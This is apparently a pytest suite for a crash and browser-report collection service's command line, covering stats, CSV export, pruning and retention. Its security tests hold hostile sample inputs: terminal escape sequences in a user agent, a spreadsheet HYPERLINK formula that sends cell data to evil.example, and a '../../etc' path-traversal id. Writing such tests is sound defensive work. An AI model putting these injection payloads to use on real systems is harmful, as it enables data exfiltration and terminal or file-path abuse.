"""stats, export filters and CSV, prune, and retention by the running service."""

from __future__ import annotations

import argparse
import asyncio
import csv
import io
import json
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import fields
from pathlib import Path
from typing import Any

import pytest
from starlette.testclient import TestClient

from reporting_endpoint import __version__
from reporting_endpoint.app import create_app
from reporting_endpoint.cli import build_parser, main, settings_from_args
from reporting_endpoint.retention import prune_once
from reporting_endpoint.settings import Settings
from reporting_endpoint.storage import SQLiteStorage
from tests.conftest import crash_report, post_reports

FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0"


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "r.sqlite3"
    with TestClient(create_app(Settings(db=path))) as client:
        post_reports(
            client,
            [crash_report(url="https://a.example.co.uk/", body={"reason": "oom"})] * 3
            + [crash_report(url="https://x.github.io/", user_agent=FIREFOX, body={})] * 2
            + [crash_report(type="deprecation", url="https://x.github.io/", body={"id": "U"})],
        )
    return path


def cli(*argv: str) -> tuple[int, str]:
    out = io.StringIO()
    code = main(list(argv), out=out)
    return code, out.getvalue()


def test_stats_table(db: Path) -> None:
    code, text = cli("stats", "--db", str(db), "--by", "site,browser", "--type", "crash")
    assert code == 0
    lines = text.splitlines()
    assert lines[0].split() == ["site", "browser", "count", "first_seen", "last_seen"]
    assert lines[1].split()[:3] == ["https://example.co.uk", "HeadlessChrome", "3"]
    assert lines[2].split()[:3] == ["https://x.github.io", "Firefox", "2"]
    assert len(lines) == 3


def test_stats_json_matches_the_api_shape(db: Path) -> None:
    code, text = cli("stats", "--db", str(db), "--by", "type", "--since", "7d", "--json")
    assert code == 0
    data = json.loads(text)
    assert data["by"] == ["type"]
    assert {g["type"]: g["count"] for g in data["groups"]} == {"crash": 5, "deprecation": 1}


def test_stats_bad_arguments(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli("stats", "--db", str(db), "--by", "colour")[0] == 2
    assert "by takes" in capsys.readouterr().err
    assert cli("stats", "--db", str(db), "--since", "last tuesday")[0] == 2
    assert "since must be" in capsys.readouterr().err


def test_export_filters_and_csv(db: Path) -> None:
    code, text = cli("export", "--db", str(db), "--browser", "Firefox")
    assert code == 0
    rows = [json.loads(line) for line in text.splitlines()]
    assert [r["browser"] for r in rows] == ["Firefox", "Firefox"]
    code, text = cli("export", "--db", str(db), "--format", "csv", "--type", "deprecation")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["type"] == "deprecation"
    assert json.loads(row["body"]) == {"id": "U"}
    assert row["site"] == "https://x.github.io"


def counts(db: Path) -> tuple[int, int, int]:
    """Reports, and what each roll-up table sums to (every table must agree)."""
    connection = sqlite3.connect(db)
    reports = connection.execute("SELECT count(*) FROM reports").fetchone()[0]
    sums = {
        table: connection.execute(f"SELECT coalesce(sum(count), 0) FROM {table}").fetchone()[0]
        for table in (
            "report_groups_hourly",
            "report_groups_hourly_kind",
            "report_groups",
            "report_groups_site",
        )
    }
    assert sums["report_groups_hourly"] == sums["report_groups_hourly_kind"]
    assert sums["report_groups"] == sums["report_groups_site"]
    return reports, sums["report_groups_hourly"], sums["report_groups"]


def backdate(db: Path, days: int, where: str) -> None:
    """Make some reports old, as if received ``days`` ago, counters included."""
    from reporting_endpoint.storage.sqlite.rollups import prune

    connection = sqlite3.connect(db, isolation_level=None)
    shift = days * 86_400_000
    connection.execute(
        f"UPDATE reports SET received_at = received_at - ?, generated_at = generated_at - ?"
        f" WHERE {where}",
        (shift, shift),
    )
    # Recount the hourly counters from the rows, as migration 0002 does for existing rows; a
    # prune with cut 0 deletes nothing and rebuilds the all-time table from the hourly one.
    connection.execute("DELETE FROM report_groups_hourly")
    connection.execute(
        "INSERT INTO report_groups_hourly SELECT received_at / 3600000, type, coalesce(site,''),"
        " coalesce(origin,''), coalesce(browser,''), coalesce(browser_major,''), coalesce(os,''),"
        " coalesce(reason,''), user_agent, count(*), min(received_at), max(received_at)"
        " FROM reports GROUP BY 1,2,3,4,5,6,7,8,9"
    )
    connection.execute("DELETE FROM report_groups_hourly_kind")
    connection.execute(
        "INSERT INTO report_groups_hourly_kind SELECT hour, type, reason, browser, sum(count),"
        " min(first_seen), max(last_seen) FROM report_groups_hourly GROUP BY 1, 2, 3, 4"
    )
    prune(connection, 0)
    connection.close()


def test_prune_deletes_old_reports_and_keeps_counters_exact(db: Path) -> None:
    backdate(db, 40, "browser = 'Firefox'")
    assert counts(db) == (6, 6, 6)
    code, text = cli("prune", "--db", str(db), "--older-than", "30d")
    assert code == 0
    assert text.startswith("deleted 2 report(s)")
    assert counts(db) == (4, 4, 4)
    code, text = cli("stats", "--db", str(db), "--by", "browser", "--json")
    assert {g["browser"]: g["count"] for g in json.loads(text)["groups"]} == {"HeadlessChrome": 4}


def test_prune_missing_database(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert cli("prune", "--db", str(tmp_path / "none.db"), "--older-than", "1d")[0] == 2
    assert "no database" in capsys.readouterr().err


def test_running_service_applies_retention(db: Path) -> None:
    backdate(db, 10, "type = 'deprecation'")

    async def scenario() -> int:
        storage = SQLiteStorage(db)
        await storage.start()
        try:
            return await prune_once(storage, days=7)
        finally:
            await storage.stop()

    assert asyncio.run(scenario()) == 1
    assert counts(db) == (5, 5, 5)


def test_retention_runs_at_startup(db: Path) -> None:
    backdate(db, 10, "type = 'deprecation'")
    with TestClient(create_app(Settings(db=db, retention_days=7))) as client:
        assert client.get("/healthz").status_code == 200
    assert counts(db)[0] == 5


# --- terminal and spreadsheet safety (issue 9, item 16)

HOSTILE_UA = "Mozilla/5.0 \x1b[2J\x1b]0;pwned\x07 \u202eevil\r\nX"


def test_stats_escapes_control_characters(tmp_path: Path) -> None:
    db = tmp_path / "r.sqlite3"
    with TestClient(create_app(Settings(db=db))) as client:
        post_reports(client, [crash_report(user_agent=HOSTILE_UA)])
    code, text = cli("stats", "--db", str(db), "--by", "user_agent")
    assert code == 0
    assert text.isascii()
    assert not any(ch in text for ch in "\x1b\x07\r\u202e")
    assert len(text.splitlines()) == 2  # the header and one row: no line break smuggled in
    assert "\\x1b[2J\\x1b]0;pwned\\x07 \\u202eevil\\r\\nX" in text
    # JSON output is for programs, and JSON escapes them itself.
    code, text = cli("stats", "--db", str(db), "--by", "user_agent", "--json")
    assert json.loads(text)["groups"][0]["user_agent"] == HOSTILE_UA


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_export_neutralises_formulas(tmp_path: Path, start: str) -> None:
    db = tmp_path / "r.sqlite3"
    user_agent = start + 'HYPERLINK("https://evil.example/?"&A1,"click")'
    with TestClient(create_app(Settings(db=db))) as client:
        post_reports(client, [crash_report(user_agent=user_agent)])
    code, text = cli("export", "--db", str(db), "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["user_agent"] == "'" + user_agent
    assert row["type"] == "crash"  # ordinary text is left alone
    # JSON lines keep the value as it is.
    code, text = cli("export", "--db", str(db))
    assert json.loads(text)["user_agent"] == user_agent


# --- crashes as CSV, refused reports in stats (item 21)


def test_export_crashes_as_csv(tmp_path: Path) -> None:
    from tests.crashpad_client import MINIDUMPS, content_type, dump_upload

    db = tmp_path / "c.sqlite3"
    fields = {"_productName": "=App", "_version": "1.2.3", "platform": "linux", "k": "v"}
    dump = (MINIDUMPS / "win-x86_breakpad_minidump2.dmp").read_bytes()
    with TestClient(create_app(Settings(db=db))) as client:
        answer = client.post(
            "/crashpad", content=dump_upload(dump, fields), headers={"content-type": content_type()}
        )
        assert answer.status_code == 200
        crash_id = answer.text.strip()
    code, text = cli("export", "--db", str(db), "--source", "crashes", "--format", "csv")
    assert code == 0
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["id"] == crash_id
    assert row["product"] == "'=App"
    assert row["version"] == "1.2.3"
    assert row["platform"] == "linux"
    assert json.loads(row["annotations"]) == fields
    assert row["dump_size"] == str(len(dump))
    code, text = cli("export", "--db", str(db), "--source", "crashes", "--platform", "win32")
    assert (code, text) == (0, "")


def quarantine(db: Path, *codes: str) -> None:
    connection = sqlite3.connect(db)
    with connection:
        connection.executemany(
            "INSERT INTO quarantine (received_at, code, field, message, raw)"
            " VALUES (1, ?, '', '', '{}')",
            [(code,) for code in codes],
        )
    connection.close()


def test_stats_shows_refused_reports_by_code(db: Path) -> None:
    quarantine(db, "schema_violation", "schema_violation", "too_deep\x1b[1m")
    code, text = cli("stats", "--db", str(db))
    assert code == 0
    assert "refused reports (all time, kept in quarantine): 3" in text
    tail = text.split("refused reports")[1].splitlines()[1:]
    assert [line.split() for line in tail] == [
        ["code", "count"],
        ["schema_violation", "2"],
        ["too_deep\\x1b[1m", "1"],
    ]
    code, text = cli("stats", "--db", str(db), "--json")
    assert json.loads(text)["refused"] == [
        {"code": "schema_violation", "count": 2},
        {"code": "too_deep\x1b[1m", "count": 1},
    ]


def test_stats_without_refused_reports_says_nothing_about_them(db: Path) -> None:
    code, text = cli("stats", "--db", str(db))
    assert code == 0
    assert "refused" not in text
    assert json.loads(cli("stats", "--db", str(db), "--json")[1])["refused"] == []


# --- the command line itself (item 19)


def walk(
    parser: argparse.ArgumentParser, path: str = "reporting-endpoint"
) -> Iterator[tuple[str, Any]]:
    for action in parser._actions:
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                yield from walk(sub, f"{path} {name}")
        else:
            yield path, action


def test_every_option_has_help() -> None:
    missing = [
        f"{path} {'/'.join(action.option_strings) or action.dest}"
        for path, action in walk(build_parser())
        if not action.help or action.help == argparse.SUPPRESS
    ]
    assert missing == []


def test_every_setting_is_a_serve_flag() -> None:
    serve = build_parser()._subparsers._group_actions[0].choices["serve"]  # type: ignore[union-attr]
    flags = {option for action in serve._actions for option in action.option_strings}
    assert {"--" + f.name.replace("_", "-") for f in fields(Settings)} <= flags


def test_serve_flags_set_every_kind_of_setting_and_beat_the_environment(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("REPORTING_ENDPOINT_READ_TOKEN", "from-env")
    monkeypatch.setenv("REPORTING_ENDPOINT_MAX_BODY_BYTES", "5000")
    args = build_parser().parse_args(
        [
            "serve", "--read-token", "r-flag", "--write-token", "w-flag",
            "--cors-allow-origins", "https://a.example, https://b.example",
            "--retention-days", "30", "--keep-url-query", "--no-access-log",
            "--limit-concurrency", "50", "--header-timeout", "2.5", "--body-timeout", "7",
            "--timeout-keep-alive", "0.5", "--sqlite-synchronous", "NORMAL",
            "--crashpad-max-body-bytes", "1000000", "--db", "x.sqlite3",
        ]
    )  # fmt: skip
    settings = settings_from_args(args)
    assert (settings.read_token, settings.write_token) == ("r-flag", "w-flag")
    assert settings.cors_allow_origins == ("https://a.example", "https://b.example")
    assert settings.retention_days == 30
    assert (settings.keep_url_query, settings.access_log) == (True, False)
    assert settings.limit_concurrency == 50
    assert (settings.header_timeout, settings.body_timeout) == (2.5, 7.0)
    assert settings.timeout_keep_alive == 0.5
    assert settings.sqlite_synchronous == "NORMAL"
    assert settings.crashpad_max_body_bytes == 1_000_000
    assert settings.db == Path("x.sqlite3")
    assert settings.max_body_bytes == 5000  # not given as a flag: the environment's value


def test_bad_flag_values_fail_without_a_traceback(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["serve", "--header-timeout", "nan"])
    assert exit_info.value.code == 2
    assert "--header-timeout" in capsys.readouterr().err
    assert main(["serve", "--body-timeout", "0"]) == 2
    assert "body_timeout must be positive" in capsys.readouterr().err


def test_version(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_info:
        main(["--version"])
    assert exit_info.value.code == 0
    assert capsys.readouterr().out.strip() == f"reporting-endpoint {__version__}"


def test_serve_names_a_missing_certificate(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cert, key = tmp_path / "nope-cert.pem", tmp_path / "nope-key.pem"
    code = main(["serve", "--ssl-certfile", str(cert), "--ssl-keyfile", str(key)])
    assert code == 2
    assert str(cert) in capsys.readouterr().err
    cert.write_text("not used")
    assert main(["serve", "--ssl-certfile", str(cert), "--ssl-keyfile", str(key)]) == 2
    assert str(key) in capsys.readouterr().err


def not_ours(tmp_path: Path, kind: str) -> Path:
    path = tmp_path / f"{kind}.db"
    if kind == "text":
        path.write_text("hello, I am a shopping list\n" * 100)
    elif kind == "empty":
        path.write_bytes(b"")
    else:  # another application's SQLite database
        connection = sqlite3.connect(path)
        connection.execute("CREATE TABLE notes (body TEXT)")
        connection.commit()
        connection.close()
    return path


@pytest.mark.parametrize("kind", ["text", "empty", "other-sqlite"])
@pytest.mark.parametrize(
    "command",
    [["export"], ["export", "--source", "crashes"], ["stats"], ["prune", "--older-than", "1d"]],
)
def test_a_database_that_is_not_ours_is_refused_by_name(
    tmp_path: Path, kind: str, command: list[str], capsys: pytest.CaptureFixture[str]
) -> None:
    path = not_ours(tmp_path, kind)
    before = path.read_bytes()
    code, out = cli(*command, "--db", str(path))
    assert code == 2
    assert out == ""
    err = capsys.readouterr().err
    assert f"{path} is not a reporting-endpoint database" in err
    assert "Traceback" not in err
    assert path.read_bytes() == before  # nothing written, no tables created
    assert not Path(str(path) + "-wal").exists()


def test_not_our_database_through_the_real_command(tmp_path: Path) -> None:
    path = not_ours(tmp_path, "text")
    result = subprocess.run(
        [sys.executable, "-m", "reporting_endpoint", "stats", "--db", str(path)],
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert f"{path} is not a reporting-endpoint database" in result.stderr


def test_serve_refuses_a_db_that_is_not_sqlite(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = not_ours(tmp_path, "text")
    assert main(["serve", "--db", str(path)]) == 2
    assert f"{path} is not a reporting-endpoint database" in capsys.readouterr().err
    assert main(["serve", "--db", str(tmp_path)]) == 2
    assert f"{tmp_path} is not a file" in capsys.readouterr().err


# --- prune and delete cover crashes and their dumps (item 11, command-line part)


def upload_crash(db: Path) -> tuple[str, Path]:
    from tests.crashpad_client import MINIDUMPS, content_type, dump_upload

    dump = (MINIDUMPS / "win-x86_breakpad_minidump2.dmp").read_bytes()
    with TestClient(create_app(Settings(db=db))) as client:
        answer = client.post(
            "/crashpad", content=dump_upload(dump), headers={"content-type": content_type()}
        )
        assert answer.status_code == 200
    [dump_file] = [p for p in Settings(db=db).data_dir.rglob("*") if p.is_file()]
    return answer.text.strip(), dump_file


def test_delete_one_crash_and_its_dump(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "c.sqlite3"
    crash_id, dump_file = upload_crash(db)
    assert cli("delete", "--db", str(db), "--crash", "0" * 32)[0] == 1
    assert f"no crash {'0' * 32}" in capsys.readouterr().err
    assert dump_file.exists()
    code, text = cli("delete", "--db", str(db), "--crash", crash_id)
    assert code == 0
    assert text == f"deleted crash {crash_id}; 1 dump file(s) removed\n"
    assert not dump_file.exists()
    assert cli("export", "--db", str(db), "--source", "crashes") == (0, "")
    assert cli("delete", "--db", str(db), "--crash", "../../etc")[0] == 2


def test_delete_one_report(db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    first = json.loads(cli("export", "--db", str(db))[1].splitlines()[0])
    code, text = cli("delete", "--db", str(db), "--report", str(first["id"]))
    assert (code, text) == (0, f"deleted report {first['id']}; 0 dump file(s) removed\n")
    assert counts(db)[0] == 5
    assert cli("delete", "--db", str(db), "--report", str(first["id"]))[0] == 1
    assert cli("delete", "--db", str(db), "--report", "²")[0] == 2
    assert "whole number" in capsys.readouterr().err


def test_prune_covers_crashes_and_their_dumps(tmp_path: Path) -> None:
    db = tmp_path / "c.sqlite3"
    _, dump_file = upload_crash(db)
    connection = sqlite3.connect(db)
    with connection:
        connection.execute("UPDATE crashes SET received_at = received_at - 40 * 86400000")
    connection.close()
    code, text = cli("prune", "--db", str(db), "--older-than", "30d")
    assert code == 0
    assert text.startswith("deleted 0 report(s) and 1 crash(es)")
    assert not dump_file.exists()
